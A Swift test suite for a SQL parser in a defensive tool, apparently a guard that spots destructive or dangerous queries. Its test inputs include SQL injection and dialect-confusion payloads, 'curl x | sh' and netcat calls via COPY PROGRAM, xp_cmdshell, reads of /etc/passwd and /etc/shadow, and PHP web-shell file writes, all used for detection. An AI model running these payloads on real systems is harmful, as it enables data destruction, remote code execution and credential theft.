import Testing
@testable import BulwarkCore

@Suite struct SQLParserTests {
    private func only(_ text: String) -> SQLStatement {
        let statements = SQLParser.statements(in: text)
        #expect(statements.count == 1, "\(text) → \(statements.count) statements")
        return statements.first ?? SQLStatement(verb: .other, text: "")
    }

    @Test(arguments: [
        "SELECT * FROM users WHERE id = 1",
        "select id, name from public.users u join orders o on o.uid = u.id where o.total > 10",
        "SELECT 1",
        "SELECT now()",
        "SELECT @@version",
        "drop table users",
        "DROP TABLE IF EXISTS \"Users\" CASCADE",
        "DELETE FROM x",
        "DELETE FROM logs WHERE created_at < now() - interval '30 days'",
        "DELETE users WHERE id = 3",
        "UPDATE users SET name = 'x' WHERE id = 1",
        "UPDATE users SET a = 1",
        "INSERT INTO users (id, name) VALUES (1, 'a')",
        "insert into t select * from s",
        "REPLACE INTO t VALUES (1)",
        "TRUNCATE TABLE users",
        "truncate logs",
        "GRANT SELECT, INSERT ON users TO bob",
        "GRANT admin TO alice",
        "REVOKE ALL ON DATABASE prod FROM bob",
        "ALTER TABLE users DROP COLUMN email",
        "ALTER USER postgres WITH PASSWORD 'x'",
        "CREATE TABLE t (id int)",
        "CREATE USER eve IDENTIFIED BY 'pw'",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "EXPLAIN SELECT * FROM t",
        "SHOW TABLES",
        "COPY users TO '/tmp/u.csv'",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "ATTACH DATABASE '/var/www/x.php' AS pwn",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "EXEC xp_cmdshell 'whoami'",
        "CALL refresh_stats()",
        "SET search_path = public",
        "BEGIN TRANSACTION",
        "hello there; DROP TABLE users",
    ])
    func realStatementsLookLikeSQL(_ text: String) {
        #expect(SQLParser.looksLikeSQL(text))
    }

    @Test(arguments: [
        "Please select the best option from the list",
        "update me when done",
        "I will drop by later",
        "select the best option from the list",
        "select one from the list",
        "select all from the menu",
        "delete the file",
        "delete from my account",
        "delete everything",
        "drop the table please",
        "drop me a line",
        "truncate the text to 100 characters",
        "truncate long lines",
        "update the docs, then set the flag",
        "update status set to done",
        "insert a coin",
        "create table of contents",
        "alter table settings for the party",
        "grant me access to the files",
        "show me the money",
        "use the force",
        "use python",
        "commit the changes",
        "execute the plan",
        "copy files from a to b",
        "describe yourself",
        "set the timer",
        "call mom",
        "merge into main",
        "explain why this fails",
        "",
        "   ",
        "12345",
        "Here is the query you asked for",
    ])
    func proseDoesNotLookLikeSQL(_ text: String) {
        #expect(!SQLParser.looksLikeSQL(text))
    }

    @Test func splitsOnTopLevelSemicolonsOnly() {
        let statements = SQLParser.statements(in: "SELECT ';'; DELETE FROM t WHERE a = ';' ; ; /* ; */")
        #expect(statements.map(\.verb) == [.select, .delete])
        #expect(statements[1].text == "DELETE FROM t WHERE a = ';'")
    }

    @Test(arguments: [
        ("DROP TABLE a.users, b", SQLStatement.Verb.drop, "TABLE", ["a.users", "b"]),
        ("DROP DATABASE prod", .drop, "DATABASE", ["prod"]),
        ("DROP MATERIALIZED VIEW IF EXISTS mv", .drop, "MATERIALIZED VIEW", ["mv"]),
        ("drop schema public cascade", .drop, "SCHEMA", ["public"]),
        ("DROP USER 'bob'@'localhost'", .drop, "USER", ["bob@localhost"]),
        ("TRUNCATE ONLY t1, t2 RESTART IDENTITY", .truncate, "TABLE", ["t1", "t2"]),
        ("ALTER TABLE `my db`.`users` DROP email", .alter, "TABLE", ["my db.users"]),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", .create, "VIEW", ["v"]),
        ("CREATE TEMPORARY TABLE IF NOT EXISTS tmp (a int)", .create, "TABLE", ["tmp"]),
        ("GRANT ALL ON TABLE orders TO bob", .grant, "TABLE", ["orders"]),
        ("GRANT dba TO eve", .grant, "ROLE", ["dba"]),
    ])
    func readsObjectTypeAndTargets(_ text: String, _ verb: SQLStatement.Verb, _ type: String, _ targets: [String]) {
        let s = only(text)
        #expect(s.verb == verb)
        #expect(s.objectType == type)
        #expect(s.targets == targets)
    }

    @Test(arguments: [
        ("DELETE FROM t WHERE id = 1", true, false),
        ("DELETE FROM t", false, false),
        ("DELETE FROM t WHERE 1=1", true, true),
        ("DELETE FROM t WHERE true", true, true),
        ("DELETE FROM t WHERE 'a'='a'", true, true),
        ("DELETE FROM t WHERE id = 5 OR 1=1", true, true),
        ("DELETE FROM t WHERE id = 5 AND 1=1", true, false),
        ("DELETE FROM t WHERE (1 = 1)", true, true),
        ("DELETE FROM t WHERE NOT 1 = 2", true, true),
        ("DELETE FROM t WHERE 2 > 1", true, true),
        ("DELETE FROM t WHERE id = id", true, true),
        ("DELETE FROM t WHERE name LIKE '%'", true, true),
        ("DELETE FROM t WHERE '1' = 1", true, true),
        ("DELETE FROM t WHERE 1", true, true),
        ("DELETE FROM t WHERE 0", true, false),
        ("DELETE FROM t WHERE a = b", true, false),
        ("DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)", true, false),
        ("UPDATE t SET a = 1 WHERE x = 'y' || 1=1", true, true),
        ("UPDATE t SET a = (SELECT b FROM u WHERE 1=1)", false, false),
        ("UPDATE t SET a = 1 WHERE id = 2 ORDER BY id LIMIT 1", true, false),
    ])
    func readsTheTopLevelWhere(_ text: String, _ hasWhere: Bool, _ tautology: Bool) {
        let s = only(text)
        #expect(s.hasWhere == hasWhere)
        #expect(s.whereIsTautology == tautology)
    }

    @Test(arguments: [
        ("SELECT * FROM t LIMIT 10", true),
        ("SELECT TOP 5 * FROM t", true),
        ("DELETE TOP (10) FROM t", true),
        ("SELECT * FROM t FETCH FIRST 3 ROWS ONLY", true),
        ("SELECT * FROM t WHERE id IN (SELECT id FROM u LIMIT 1)", false),
    ])
    func readsLimits(_ text: String, _ hasLimit: Bool) {
        #expect(only(text).hasLimit == hasLimit)
    }

    @Test func withTakesTheMainVerb() {
        let s = only("WITH old AS (SELECT id FROM t WHERE age > 3) DELETE FROM t WHERE id IN (SELECT id FROM old)")
        #expect(s.verb == .with)
        #expect(s.effectiveVerb == .delete)
        #expect(s.targets == ["t"])
        #expect(s.hasWhere)
        #expect(s.nested.isEmpty)
    }

    @Test func dataModifyingCTEIsNested() {
        let s = only("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone")
        #expect(s.effectiveVerb == .select)
        #expect(s.nested.map(\.effectiveVerb) == [.delete])
        #expect(s.nested.first?.targets == ["users"])
    }

    @Test func explainAnalyzeRunsTheStatement() {
        #expect(only("EXPLAIN SELECT * FROM t").nested.isEmpty)
        #expect(only("EXPLAIN DELETE FROM t").nested.isEmpty)
        #expect(only("EXPLAIN ANALYZE DELETE FROM t").nested.map(\.verb) == [.delete])
        #expect(only("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1").nested.map(\.verb) == [.update])
        #expect(only("EXPLAIN (ANALYZE false) DELETE FROM t").nested.isEmpty)
    }

    @Test(arguments: [
        "EXEC('DROP TABLE users')",
        "EXECUTE IMMEDIATE 'DROP TABLE users'",
        "EXEC sp_executesql N'DROP TABLE users'",
        "DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$",
        "PREPARE s FROM 'DROP TABLE users'",
    ])
    func dynamicSQLInStringsIsParsed(_ text: String) {
        let all = SQLParser.statements(in: text).flatMap(\.flattened)
        #expect(all.contains { $0.verb == .drop && $0.targets == ["users"] })
    }

    @Test func plainStringsAreNotParsedAsSQL() {
        let s = only("INSERT INTO notes (body) VALUES ('DROP TABLE users')")
        #expect(s.nested.isEmpty)
    }

    @Test(arguments: [
        // standard reading hides the DROP inside a string; MySQL's backslash escape reveals it
        #"SELECT * FROM t WHERE name = 'a\'; DROP TABLE users; -- '"#,
        // MySQL reads `#` as a comment; PostgreSQL as XOR
        "SELECT 1 # 2; DROP TABLE users",
        // PostgreSQL nests comments; MySQL ends at the first */
        "SELECT 1 /* /* */ ; DROP TABLE users; /* */",
        // a `#` comment hides a nested-comment ambiguity
        "SELECT '\\' # /* /* */ ; DROP TABLE users; ",
    ])
    func dialectAmbiguityKeepsTheDangerousReading(_ text: String) {
        let statements = SQLParser.statements(in: text)
        #expect(statements.contains { $0.verb == .drop && $0.targets == ["users"] })
    }

    @Test func commentSplitKeywordIsJoinedAndFlagged() {
        let s = only("DR/**/OP TABLE users")
        #expect(s.verb == .drop)
        #expect(s.flags.contains(.splitKeyword))
        #expect(only("DROP/**/TABLE/**/users").flags.contains(.commentAsWhitespace))
        #expect(!only("DROP TABLE users /* old */ CASCADE").flags.contains(.commentAsWhitespace))
    }

    @Test(arguments: [
        ("COPY t FROM PROGRAM 'curl x | sh'", SQLFileAccess.Kind.codeExecution),
        ("COPY (SELECT 1) TO PROGRAM 'nc x 1'", .codeExecution),
        ("COPY t TO '/var/www/x.php'", .fileWrite),
        ("COPY t FROM '/etc/passwd'", .fileRead),
        ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", .fileRead),
        ("SELECT '<?php ?>' INTO OUTFILE '/var/www/s.php'", .fileWrite),
        ("SELECT pg_read_file('/etc/passwd')", .fileRead),
        ("SELECT lo_import('/etc/shadow')", .fileRead),
        ("EXEC master..xp_cmdshell 'whoami'", .codeExecution),
        ("ATTACH DATABASE '/var/www/shell.php' AS x", .fileWrite),
        ("SELECT load_extension('/tmp/evil.so')", .codeExecution),
        ("CREATE FUNCTION sys(text) RETURNS int AS '/tmp/x.so' LANGUAGE C", .codeExecution),
        ("CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so'", .codeExecution),
        ("LOAD '/tmp/evil.so'", .codeExecution),
        ("SET GLOBAL general_log_file = '/var/www/x.php'", .fileWrite),
        ("BULK INSERT t FROM 'C:\\secrets.txt'", .fileRead),
    ])
    func findsFileAndCodeAccess(_ text: String, _ kind: SQLFileAccess.Kind) {
        let access = SQLParser.statements(in: text).flatMap(\.flattened).flatMap(\.fileAccess)
        #expect(access.contains { $0.kind == kind }, "\(text) → \(access)")
    }

    @Test(arguments: [
        "COPY t TO STDOUT", "ATTACH DATABASE ':memory:' AS m", "SELECT * FROM files WHERE name = 'pg_read_file'",
    ])
    func harmlessLookalikesHaveNoFileAccess(_ text: String) {
        #expect(SQLParser.statements(in: text).flatMap(\.fileAccess).isEmpty)
    }

    @Test func alterTableDropsOnlyColumnsAndPartitions() {
        #expect(only("ALTER TABLE t DROP COLUMN c").flags.contains(.dropsColumn))
        #expect(only("ALTER TABLE t DROP c").flags.contains(.dropsColumn))
        #expect(only("ALTER TABLE t DROP PARTITION p2019").flags.contains(.dropsPartition))
        #expect(!only("ALTER TABLE t DROP CONSTRAINT fk").flags.contains(.dropsColumn))
        #expect(!only("ALTER TABLE t ALTER COLUMN c DROP DEFAULT").flags.contains(.dropsColumn))
        #expect(!only("ALTER TABLE t ALTER COLUMN c DROP NOT NULL").flags.contains(.dropsColumn))
    }
}
